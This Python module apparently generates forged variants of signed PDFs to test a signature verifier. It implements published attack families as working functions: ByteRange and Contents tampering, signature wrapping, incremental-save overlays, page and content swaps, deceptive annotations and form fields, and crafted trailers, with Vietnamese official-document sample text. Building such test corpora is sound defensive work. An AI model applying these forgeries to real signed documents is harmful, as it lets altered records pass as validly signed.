"""Forgeries of a signed record, each as a function from the signed bytes to the forged ones.

The published families: universal signature forgery, incremental saving, signature wrapping (2018), shadow documents (2020),
evil annotations and sneaky signatures on certified files (2021); and tails that viewers read differently. Each is made here, none is
copied.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from typing import Any, Final

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Attack = Callable[[bytes], bytes]
ATTACKS: Final[dict[str, Attack]] = {}


def attack(made: Attack) -> Attack:
    ATTACKS[made.__name__] = made
    return made


class _Quiet(IncrementalPdfFileWriter):  # type: ignore[misc]
    """A forger's writer: leaves metadata alone, so that only the forgery is there to be found."""

    def _update_meta(self) -> None:
        pass


def _update(pdf: bytes, change: Callable[[Any], None]) -> bytes:
    writer = _Quiet(io.BytesIO(pdf), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _first_page(writer: Any) -> Any:
    node = writer.root["/Pages"]
    while "/Kids" in node:
        node = node["/Kids"][0].get_object()
    return node


def _fields(writer: Any) -> list[Any]:
    return [reference.get_object() for reference in writer.root["/AcroForm"]["/Fields"]]


def _signed_fields(writer: Any) -> list[Any]:
    return [field for field in _fields(writer) if field.get("/FT") == "/Sig" and "/V" in field]


def _white(writer: Any, text: bytes = b"1 1 1 rg 50 600 500 200 re f") -> Any:
    return writer.add_object(generic.StreamObject(stream_data=text))


def _form(writer: Any, width: float = 400, height: float = 40) -> Any:
    entries = {
        pdf_name("/Type"): pdf_name("/XObject"),
        pdf_name("/Subtype"): pdf_name("/Form"),
        pdf_name("/BBox"): generic.ArrayObject([generic.FloatObject(v) for v in (0, 0, width, height)]),
    }
    return writer.add_object(generic.StreamObject(entries, stream_data=b"1 1 1 rg 0 0 %d %d re f" % (width, height)))


def _rect(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.FloatObject(value) for value in values])


def _annotate(writer: Any, annotation: dict[str, Any]) -> Any:
    page = _first_page(writer)
    thing = generic.DictionaryObject({pdf_name(key): value for key, value in annotation.items()})
    reference = writer.add_object(thing)
    listed = page["/Annots"] if "/Annots" in page else generic.ArrayObject()
    page[pdf_name("/Annots")] = generic.ArrayObject([*listed, reference])
    writer.update_container(page)
    return reference


def _tail_parts(pdf: bytes) -> tuple[int, int, bytes]:
    """Last startxref, /Size and the /Root entry of the trailer in force."""
    start = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    size = max(int(value) for value in re.findall(rb"/Size (\d+)", pdf))
    root = re.findall(rb"/Root (\d+ \d+ R)", pdf)[-1]
    return start, size, root


def _content_object(pdf: bytes) -> tuple[int, bytes]:
    """The first page's content stream as an object to be written over, its number and its new body."""
    found: list[int] = []

    def look(writer: Any) -> None:
        contents = _first_page(writer).raw_get("/Contents")
        found.append(contents.idnum if isinstance(contents, generic.IndirectObject) else contents[0].idnum)

    _update(pdf, look)
    body = b"%d 0 obj\n<< /Length 29 >>\nstream\n1 1 1 rg 0 0 600 850 re f    \nendstream\nendobj\n" % found[0]
    return found[0], body


# --- bytes ---------------------------------------------------------------------------------------------------------------


@attack
def bit_flipped_in_page(pdf: bytes) -> bytes:
    forged = bytearray(pdf)
    forged[len(pdf) // 3] ^= 1
    return bytes(forged)


@attack
def bit_flipped_in_signature(pdf: bytes) -> bytes:
    place = pdf.rindex(b"/Contents <") + 400
    forged = bytearray(pdf)
    forged[place] = ord("1") if forged[place] != ord("1") else ord("2")
    return bytes(forged)


@attack
def cut_short(pdf: bytes) -> bytes:
    return pdf[:-700]


@attack
def text_after_the_end(pdf: bytes) -> bytes:
    return pdf + b"\nnothing to see here\n"


@attack
def comment_after_the_end(pdf: bytes) -> bytes:
    return pdf + b"% a comment\n"


@attack
def bare_objects_after_the_end(pdf: bytes) -> bytes:
    return pdf + _content_object(pdf)[1]


@attack
def bare_objects_before_another_end(pdf: bytes) -> bytes:
    start, _, _ = _tail_parts(pdf)
    return pdf + _content_object(pdf)[1] + b"startxref\n%d\n%%%%EOF\n" % start


@attack
def increment_without_end(pdf: bytes) -> bytes:
    start, size, root = _tail_parts(pdf)
    number, body = _content_object(pdf)
    table = len(pdf) + len(body)
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n" % (size, root, start, table)
    return pdf + body + b"xref\n%d 1\n%010d 00000 n \n" % (number, len(pdf)) + trailer


@attack
def increment_without_startxref(pdf: bytes) -> bytes:
    start, size, root = _tail_parts(pdf)
    number, body = _content_object(pdf)
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\n%%%%EOF\n" % (size, root, start)
    return pdf + body + b"xref\n%d 1\n%010d 00000 n \n" % (number, len(pdf)) + trailer


@attack
def increment_with_empty_table(pdf: bytes) -> bytes:
    start, size, root = _tail_parts(pdf)
    _, body = _content_object(pdf)
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return pdf + body + b"xref\n0 0\n" + trailer % (size, root, start, len(pdf) + len(body))


@attack
def increment_whose_table_is_right(pdf: bytes) -> bytes:
    start, size, root = _tail_parts(pdf)
    number, body = _content_object(pdf)
    table = len(pdf) + len(body)
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start, table)
    return pdf + body + b"xref\n%d 1\n%010d 00000 n \n" % (number, len(pdf)) + trailer


@attack
def increment_that_skips_the_signature(pdf: bytes) -> bytes:
    starts = re.findall(rb"startxref\s+(\d+)", pdf)
    _, size, root = _tail_parts(pdf)
    number, body = _content_object(pdf)
    table = len(pdf) + len(body)
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, starts[0], table)
    return pdf + body + b"xref\n%d 1\n%010d 00000 n \n" % (number, len(pdf)) + trailer


@attack
def object_twice_in_one_increment(pdf: bytes) -> bytes:
    """The table names a harmless object, a second one of the same number stands behind it."""
    start, size, root = _tail_parts(pdf)
    _, body = _content_object(pdf)
    harmless = b"%d 0 obj\n<< >>\nendobj\n" % size
    table = len(pdf) + len(harmless) + len(body)
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size + 1, root, start, table)
    return pdf + harmless + body + b"xref\n%d 1\n%010d 00000 n \n" % (size, len(pdf)) + trailer


# --- universal signature forgery and wrapping --------------------------------------------------------------------------------


def _range_replaced(pdf: bytes, new: bytes) -> bytes:
    found = list(re.finditer(rb"/ByteRange\s*\[[^\]]*\]", pdf))[-1]
    size = found.end() - found.start()
    return pdf[: found.start()] + (b"/ByteRange " + new).ljust(size)[:size] + pdf[found.end() :]


@attack
def range_null(pdf: bytes) -> bytes:
    return _range_replaced(pdf, b"null")


@attack
def range_empty(pdf: bytes) -> bytes:
    return _range_replaced(pdf, b"[]")


@attack
def range_of_zeros(pdf: bytes) -> bytes:
    return _range_replaced(pdf, b"[0 0 0 0]")


@attack
def range_negative(pdf: bytes) -> bytes:
    return _range_replaced(pdf, b"[0 -1 0 0]")


@attack
def range_renamed(pdf: bytes) -> bytes:
    place = pdf.rindex(b"/ByteRange")
    return pdf[:place] + b"/ByteRangX" + pdf[place + 10 :]


@attack
def contents_of_zeros(pdf: bytes) -> bytes:
    start = pdf.rindex(b"/Contents <") + 11
    end = pdf.index(b">", start)
    return pdf[:start] + b"0" * (end - start) + pdf[end:]


@attack
def contents_renamed(pdf: bytes) -> bytes:
    place = pdf.rindex(b"/Contents <")
    return pdf[:place] + b"/Contentx <" + pdf[place + 11 :]


@attack
def signed_part_wrapped(pdf: bytes) -> bytes:
    """SWA: the second signed part is moved down, content of one's own is put into the gap."""
    found = list(re.finditer(rb"/ByteRange\s*\[\s*0 (\d+) (\d+) (\d+)\s*\]", pdf))[-1]
    _, second, rest = (int(value) for value in found.groups())
    forged = _content_object(pdf)[1]
    moved = b"[0 %s %d %d]" % (found.group(1), second + len(forged), rest)
    opened = _range_replaced(pdf, moved)
    return opened[:second] + forged + opened[second:]


@attack
def signature_copied_to_another_field(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        signed = _signed_fields(writer)[-1]
        entries = {
            "/Type": pdf_name("/Annot"), "/Subtype": pdf_name("/Widget"), "/FT": pdf_name("/Sig"), "/Rect": _rect(0, 0, 0, 0),
            "/T": generic.TextStringObject("ChuKyThem"), "/V": signed.raw_get("/V"), "/F": generic.NumberObject(132),
        }  # fmt: skip
        reference = _annotate(writer, entries)
        writer.root["/AcroForm"]["/Fields"].append(reference)
        writer.update_container(writer.root["/AcroForm"]["/Fields"])
        writer.update_container(writer.root["/AcroForm"])

    return _update(pdf, change)


@attack
def unknown_subfilter(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        value = _signed_fields(writer)[-1]["/V"]
        value[pdf_name("/SubFilter")] = pdf_name("/Nobody.Knows")
        writer.update_container(value)

    return _update(pdf, change)


@attack
def signature_field_emptied(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        field = _signed_fields(writer)[0]
        del field["/V"]
        writer.update_container(field)

    return _update(pdf, change)


@attack
def form_removed(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        del writer.root["/AcroForm"]
        writer.update_root()

    return _update(pdf, change)


@attack
def fields_unlisted(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        form = writer.root["/AcroForm"]
        form[pdf_name("/Fields")] = generic.ArrayObject()
        writer.update_container(form)

    return _update(pdf, change)


# --- incremental saving ------------------------------------------------------------------------------------------------------


@attack
def content_painted_over(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        page = _first_page(writer)
        page[pdf_name("/Contents")] = generic.ArrayObject([page.raw_get("/Contents"), _white(writer)])
        writer.update_container(page)

    return _update(pdf, change)


@attack
def content_replaced(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        page = _first_page(writer)
        page[pdf_name("/Contents")] = _white(writer)
        writer.update_container(page)

    return _update(pdf, change)


@attack
def scanned_image_replaced(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        images = _first_page(writer)["/Resources"]["/XObject"]
        name = next(iter(images))
        image = images[name]
        image._data = image._encoded_data = None
        image._encoded_data = b"\xff\xd8\xff\xd9"
        writer.update_container(image)

    return _update(pdf, change)


@attack
def resources_swapped(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        page = _first_page(writer)
        page[pdf_name("/Resources")] = generic.DictionaryObject()
        writer.update_container(page)

    return _update(pdf, change)


@attack
def page_removed(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        tree = writer.root["/Pages"]
        tree[pdf_name("/Kids")] = generic.ArrayObject(list(tree["/Kids"])[:1])
        tree[pdf_name("/Count")] = generic.NumberObject(1)
        writer.update_container(tree)

    return _update(pdf, change)


@attack
def pages_in_other_order(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        tree = writer.root["/Pages"]
        tree[pdf_name("/Kids")] = generic.ArrayObject(list(tree["/Kids"])[::-1])
        writer.update_container(tree)

    return _update(pdf, change)


@attack
def page_added(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        tree = writer.root["/Pages"]
        page = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/Parent"): generic.IndirectObject(tree.container_ref.idnum, 0, writer),
                pdf_name("/MediaBox"): _rect(0, 0, 595, 842),
                pdf_name("/Contents"): _white(writer),
            }
        )
        tree["/Kids"].append(writer.add_object(page))
        tree[pdf_name("/Count")] = generic.NumberObject(int(tree["/Count"]) + 1)
        writer.update_container(tree)
        writer.update_container(tree["/Kids"])

    return _update(pdf, change)


@attack
def page_shown_through_another_box(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        page = _first_page(writer)
        page[pdf_name("/CropBox")] = _rect(0, 0, 595, 300)
        writer.update_container(page)

    return _update(pdf, change)


@attack
def page_turned(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        page = _first_page(writer)
        page[pdf_name("/Rotate")] = generic.NumberObject(180)
        writer.update_container(page)

    return _update(pdf, change)


@attack
def other_page_tree(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        old = _first_page(writer)
        page = generic.DictionaryObject(
            {key: value for key, value in old.items() if key not in ("/Parent", "/Contents")}
        )
        page[pdf_name("/Contents")] = _white(writer)
        kids = generic.ArrayObject([writer.add_object(page)])
        tree = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Pages"),
                pdf_name("/Kids"): kids,
                pdf_name("/Count"): generic.NumberObject(1),
            }
        )
        writer.root[pdf_name("/Pages")] = writer.add_object(tree)
        writer.update_root()

    return _update(pdf, change)


@attack
def script_added(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        script = generic.DictionaryObject(
            {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.TextStringObject("app.alert('x')")}
        )
        writer.root[pdf_name("/OpenAction")] = writer.add_object(script)
        writer.update_root()

    return _update(pdf, change)


@attack
def layers_added(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        group = writer.add_object(
            generic.DictionaryObject(
                {pdf_name("/Type"): pdf_name("/OCG"), pdf_name("/Name"): generic.TextStringObject("x")}
            )
        )
        writer.root[pdf_name("/OCProperties")] = generic.DictionaryObject(
            {pdf_name("/OCGs"): generic.ArrayObject([group]), pdf_name("/D"): generic.DictionaryObject()}
        )
        writer.update_root()

    return _update(pdf, change)


@attack
def image_freed(pdf: bytes) -> bytes:
    start, size, root = _tail_parts(pdf)
    number, _ = _content_object(pdf)
    trailer = b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start, len(pdf))
    return pdf + b"xref\n0 1\n%010d 65535 f \n%d 1\n0000000000 00001 f \n" % (number, number) + trailer


@attack
def metadata_changed(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        stream = writer.root["/Metadata"]
        writer.root[pdf_name("/Metadata")] = writer.add_object(
            generic.StreamObject(
                {pdf_name("/Type"): pdf_name("/Metadata"), pdf_name("/Subtype"): pdf_name("/XML")},
                stream_data=stream.data.replace("Quyết định".encode(), "Quyết toán".encode()),
            )
        )
        writer.update_root()

    return _update(pdf, change)


@attack
def info_changed(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        entries = {pdf_name("/Title"): generic.TextStringObject("Văn bản khác")}
        writer.set_info(writer.add_object(generic.DictionaryObject(entries)))

    return _update(pdf, change)


# --- annotations and fields --------------------------------------------------------------------------------------------------


@attack
def evil_annotation(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        look = generic.DictionaryObject({pdf_name("/N"): _form(writer)})
        entries = {
            "/Type": pdf_name("/Annot"),
            "/Subtype": pdf_name("/FreeText"),
            "/Rect": _rect(60, 690, 460, 730),
            "/AP": look,
        }
        _annotate(
            writer,
            {**entries, "/F": generic.NumberObject(4), "/Contents": generic.TextStringObject("999.000.000 đồng")},
        )

    return _update(pdf, change)


@attack
def stamp_annotation(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        look = generic.DictionaryObject({pdf_name("/N"): _form(writer)})
        entries = {
            "/Type": pdf_name("/Annot"),
            "/Subtype": pdf_name("/Stamp"),
            "/Rect": _rect(60, 690, 460, 730),
            "/AP": look,
        }
        _annotate(writer, {**entries, "/F": generic.NumberObject(4)})

    return _update(pdf, change)


def _new_widget(writer: Any, kind: str, rect: tuple[float, float, float, float]) -> None:
    entries = {
        "/Type": pdf_name("/Annot"), "/Subtype": pdf_name("/Widget"), "/FT": pdf_name(kind), "/Rect": _rect(*rect),
        "/T": generic.TextStringObject("OThem"), "/F": generic.NumberObject(132),
        "/AP": generic.DictionaryObject({pdf_name("/N"): _form(writer)}),
    }  # fmt: skip
    reference = _annotate(writer, entries)
    writer.root["/AcroForm"]["/Fields"].append(reference)
    writer.update_container(writer.root["/AcroForm"]["/Fields"])
    writer.update_container(writer.root["/AcroForm"])


@attack
def empty_signature_field_over_text(pdf: bytes) -> bytes:
    """Sneaky signature: a field nobody has signed, whose looks cover the sum."""
    return _update(pdf, lambda writer: _new_widget(writer, "/Sig", (60, 690, 460, 730)))


@attack
def empty_signature_field_on_blank_place(pdf: bytes) -> bytes:
    return _update(pdf, lambda writer: _new_widget(writer, "/Sig", (60, 100, 460, 140)))


@attack
def text_field_over_text(pdf: bytes) -> bytes:
    return _update(pdf, lambda writer: _new_widget(writer, "/Tx", (60, 690, 460, 730)))


@attack
def signature_moved(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        field = _signed_fields(writer)[-1]
        field[pdf_name("/Rect")] = _rect(60, 690, 460, 730)
        writer.update_container(field)

    return _update(pdf, change)


@attack
def signature_redrawn(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        field = _signed_fields(writer)[-1]
        field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _form(writer)})
        writer.update_container(field)

    return _update(pdf, change)


@attack
def signature_appearance_overwritten(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        look = _signed_fields(writer)[-1]["/AP"]["/N"]
        look._data, look._encoded_data = b"1 1 1 rg 0 0 400 400 re f", None
        writer.update_container(look)

    return _update(pdf, change)


@attack
def text_field_filled_after_all(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        for field in _fields(writer):
            if field.get("/FT") == "/Tx":
                field[pdf_name("/V")] = generic.TextStringObject("999/QĐ-UBND")
                field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): _form(writer)})
                writer.update_container(field)

    return _update(pdf, change)


@attack
def fields_drawn_by_the_viewer(pdf: bytes) -> bytes:
    def change(writer: Any) -> None:
        form = writer.root["/AcroForm"]
        form[pdf_name("/NeedAppearances")] = generic.BooleanObject(True)
        writer.update_container(form)

    return _update(pdf, change)
